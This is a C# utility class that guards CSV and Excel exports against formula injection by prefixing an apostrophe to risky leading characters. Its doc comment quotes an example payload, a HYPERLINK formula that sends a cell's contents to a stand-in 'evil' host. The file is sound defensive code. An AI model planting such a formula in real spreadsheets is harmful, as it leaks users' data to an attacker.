namespace Loyalty.Core.Common;

/// <summary>
/// Text that users typed (names, reviews, summaries, references) on its way into a CSV or Excel file. A cell that
/// starts with <c>= + - @</c>, a tab or a carriage return is a formula to Excel and LibreOffice ("CSV injection",
/// e.g. <c>=HYPERLINK("http://evil/?"&amp;A1)</c>); prefixing an apostrophe makes it plain text that shows as typed.
/// Every export goes through this one helper (docs/decisions/0113).
/// </summary>
public static class SpreadsheetText
{
    public static string Safe(string? value)
    {
        if (string.IsNullOrEmpty(value)) return "";
        return value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' or '＝' or '＋' or '－' or '＠' ? "'" + value : value;
    }
}
